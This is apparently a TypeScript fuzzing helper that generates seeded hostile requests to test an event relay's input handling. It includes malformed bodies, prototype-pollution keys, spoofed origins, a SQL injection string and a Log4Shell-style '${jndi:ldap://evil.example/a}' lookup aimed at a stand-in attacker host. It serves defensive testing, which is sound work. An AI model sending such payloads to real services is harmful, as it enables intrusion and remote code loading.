/** Requests that nobody means well with: made by chance, the same for the same seed. */
import type { Chance } from '../../../e2e/delivery/chance';
import type { RawRequest } from './event-oracle';
import { lead } from './events';
import { PAGE } from './relay';

const bytesOf = (text: string): Uint8Array => Buffer.from(text, 'utf8');
const EVENT = {
  ...lead,
  fields: { email: 'ada@example.com', topics: ['engines', 'looms'], age: 36 },
  person_id: 'p',
  ga_client_id: '1.2',
  affiliate_id: 'a-1',
};
const TEXT = JSON.stringify(EVENT);

const VALUES = [
  'null',
  '[]',
  '{}',
  'true',
  '-1',
  '1e999',
  '-1e999',
  '""',
  '" \\n"',
  '"\\u0000"',
  '["lead"]',
  '{"$gt":""}',
  `"${'x'.repeat(257)}"`,
  '"\\ud83d"',
  '"__proto__"',
  '""lead""',
];
const ORIGINS = [
  'null',
  '',
  'https://evil.example',
  `${PAGE}.evil.example`,
  `${PAGE}/`,
  `${PAGE}:8443`,
  PAGE.toUpperCase(),
  PAGE.replace('https', 'http'),
  `https://evil.example#${PAGE}`,
  `${PAGE}, ${PAGE}`,
];
const TYPES = [
  '',
  'text/html',
  'application/xml',
  'text/plain;charset=utf-16',
  'multipart/form-data; boundary=x',
  'application/x-www-form-urlencoded',
  'text/plain, application/json',
  'application/json;charset="utf-8',
  'application/graphql',
];
const PATHS = [
  '/',
  '/v2',
  '/v2/event/',
  '/v2/events',
  '/V2/event',
  '/v2//event',
  '/v2/event%00',
  '/v2%2Fevent',
  '/.env',
  '/wp-login.php',
  '/healthz',
  '/metrics',
  '/v2/affiliate_event/x',
  '/__proto__',
  '/constructor',
];
const METHODS = ['GET', 'HEAD', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'PROPFIND', 'QUERY'];
const BODIES = [
  '',
  ' ',
  'null',
  '[]',
  '"lead"',
  '7',
  '<event/>',
  'email=ada%40example.com',
  '--- !ruby/object',
  '${jndi:ldap://evil.example/a}',
  "' OR 1=1 --",
  'callback({})',
  `[${TEXT}]`,
  TEXT + TEXT,
  `)]}'${TEXT}`,
];
const ILL_FORMED = [
  [0xc0, 0x80],
  [0xed, 0xa0, 0x80],
  [0xf5, 0x80, 0x80, 0x80],
  [0xff],
  [0xe2, 0x82],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
];

const KEYS = Object.keys(EVENT) as (keyof typeof EVENT)[];
const nest = (levels: number, [open, close]: readonly [string, string]): string =>
  open.repeat(levels) + '1' + close.repeat(levels);
const withFields = (fields: string): string => TEXT.replace(JSON.stringify(EVENT.fields), () => fields);
const namesOf = (count: number): string =>
  `{${Array.from({ length: count }, (_, index) => `"n${index}":${index}`).join()}}`;

const randomBytes = (chance: Chance, length: number): Uint8Array =>
  Uint8Array.from({ length }, () => chance.below(256));

const spliced = (chance: Chance, bytes: Uint8Array, insert: Uint8Array): Uint8Array => {
  const at = chance.below(bytes.length + 1);
  return Buffer.concat([bytes.subarray(0, at), insert, bytes.subarray(at + chance.below(4))]);
};

/** The bytes with a few of them changed, taken away, doubled or put in. */
export function mutated(chance: Chance, bytes: Uint8Array): Uint8Array {
  const changes = Array.from({ length: 1 + chance.below(4) }, () => chance.below(4));
  return changes.reduce<Uint8Array>((rest, change) => {
    const start = chance.below(rest.length + 1);
    const slice = rest.subarray(start, start + 1 + chance.below(16));
    if (change === 0) return rest.map((byte, index) => (index === start ? byte ^ (1 << chance.below(8)) : byte));
    if (change === 1) return Buffer.concat([rest.subarray(0, start), rest.subarray(start + slice.length)]);
    if (change === 2) return Buffer.concat([rest.subarray(0, start), slice, rest.subarray(start)]);
    return spliced(chance, rest, randomBytes(chance, 1 + chance.below(8)));
  }, bytes);
}

type Attack = (chance: Chance) => Partial<RawRequest>;
const inBody =
  (make: (chance: Chance) => string | Uint8Array): Attack =>
  (chance) => {
    const body = make(chance);
    return { body: typeof body === 'string' ? bytesOf(body) : body };
  };

/** Each way to attack, by name. */
export const ATTACKS: Record<string, Attack> = {
  'a truncated body': inBody((chance) => bytesOf(TEXT).subarray(0, chance.below(TEXT.length))),
  'a mutated body': inBody((chance) => mutated(chance, bytesOf(TEXT))),
  'random bytes': inBody((chance) => randomBytes(chance, chance.below(600))),
  'another language': inBody((chance) => chance.pick(BODIES)),
  'a value of another kind': inBody((chance) => {
    const key = chance.pick(KEYS);
    return TEXT.replace(`"${key}":${JSON.stringify(EVENT[key])}`, () => `"${key}":${chance.pick(VALUES)}`);
  }),
  'a key twice': inBody((chance) => TEXT.replace(/}$/, `,"${chance.pick(KEYS)}":${chance.pick(VALUES)}}`)),
  'a key that is missing': inBody((chance) =>
    TEXT.replace(`"${chance.pick(KEYS)}"`, `"${chance.pick(['__proto__', 'constructor', 'prototype', 'x'])}"`),
  ),
  'an event inside a prototype': inBody(
    (chance) =>
      `{"${chance.pick(['__proto__', 'constructor', 'prototype'])}":${chance.pick([TEXT, `{"prototype":${TEXT}}`])}}`,
  ),
  depth: inBody((chance) =>
    withFields(
      `{"a":${nest(
        8 + chance.below(1 + 8 ** chance.below(5)),
        chance.pick([
          ['[', ']'],
          ['{"a":', '}'],
        ] as const),
      )}}`,
    ),
  ),
  'open brackets': inBody((chance) => chance.pick(['[', '{"a":', '"', '[{"a":']).repeat(1 + chance.below(5000))),
  'many names': inBody((chance) => withFields(namesOf(1_995 + chance.below(600)))),
  'a huge number': inBody((chance) =>
    withFields(`{"n":${chance.pick(['', '-'])}${1 + chance.below(9)}e${300 + chance.below(99_999)}}`),
  ),
  'text that is not UTF-8': inBody((chance) =>
    spliced(chance, bytesOf(TEXT), Uint8Array.from(chance.pick(ILL_FORMED))),
  ),
  'a body near the limit': inBody((chance) =>
    withFields(`{"m":"${'x'.repeat(131_072 - TEXT.length + chance.below(400))}"}`),
  ),
  'another source': inBody((chance) =>
    TEXT.replace(
      lead.source_id,
      chance.pick([
        'source-2',
        'SOURCE-1',
        'source-1 ',
        'source-1\\u0000',
        '*',
        '__proto__',
        '../source-1',
        'ѕource-1',
      ]),
    ),
  ),
  'another origin': (chance) => ({ headers: { Origin: chance.pick(ORIGINS) } }),
  'another type': (chance) => ({ headers: { 'Content-Type': chance.pick(TYPES) } }),
  'an encoding': (chance) => ({
    headers: { 'Content-Encoding': chance.pick(['gzip', 'br', 'deflate', 'chunked', 'identity, gzip', 'x']) },
  }),
  'another path': (chance) => ({
    path: chance.pick(PATHS) + chance.pick(['', '?relay=https://evil.example', '?__proto__[x]=1', '?']),
  }),
  'another method': (chance) => ({ method: chance.pick(METHODS) }),
};

/** A request of a good page, spoilt in one of these ways. */
export function spoil(chance: Chance, attack: Attack): RawRequest {
  const { headers, ...others } = attack(chance);
  const path = chance.pick(['/v2/event', '/v2/affiliate_event']);
  return {
    method: 'POST',
    path,
    body: bytesOf(TEXT),
    ...others,
    headers: { Origin: PAGE, 'Content-Type': 'text/plain;charset=UTF-8', ...headers },
  };
}

/**
 * The bytes of a request over a socket that can never become an event: its page is not allowed, or its body ends too
 * early.
 */
export function spoiltBytes(chance: Chance): Uint8Array {
  const head = (origin: string, length: number) =>
    bytesOf(
      `POST /v2/event HTTP/1.1\r\nHost: relay\r\nOrigin: ${origin}\r\n` +
        `Content-Type: text/plain\r\nContent-Length: ${length}\r\n\r\n`,
    );
  const stranger = Buffer.concat([head('https://evil.example', TEXT.length), bytesOf(TEXT)]);
  switch (chance.below(4)) {
    case 0:
      return mutated(chance, stranger);
    case 1:
      return stranger.subarray(0, chance.below(stranger.length));
    case 2:
      return Buffer.concat([head(PAGE, TEXT.length), bytesOf(TEXT).subarray(0, chance.below(TEXT.length))]);
    default:
      return randomBytes(chance, 1 + chance.below(2000));
  }
}
